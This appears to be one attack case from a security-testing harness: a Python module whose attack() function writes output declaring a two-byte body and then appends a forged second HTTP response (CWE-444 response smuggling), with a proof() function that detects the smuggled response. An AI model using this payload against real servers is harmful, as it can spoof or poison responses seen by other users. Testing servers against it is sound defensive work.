"""Declare a length that makes the rest of the body look like another response."""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from workloads.attacks.scene import Given, Scene

PRECEDENT = "CWE-444: two readers that do not agree where a message ends"
MAY_BE_ENDED = True
CONTROL = "careless_output"


def attack(given: Given) -> object:
    import sys

    second = f"HTTP/1.1 200 OK\r\nContent-Length: 16\r\n\r\n{given.token}"
    sys.stdout.write(f"Content-Type: text/plain\nContent-Length: 2\n\nok{second}")
    sys.stdout.flush()
    raise SystemExit


def proof(scene: Scene) -> str | None:
    raw = scene.replies()[0].raw
    head, _, body = raw.partition(b"\r\n\r\n")
    lengths = [line for line in head.lower().split(b"\r\n") if line.startswith(b"content-length:")]
    if lengths[:1] == [b"content-length: 2"] and scene.token.encode() in body[2:]:
        return "the answer declares 2 bytes and is followed by another one of the attacker's"
    return None
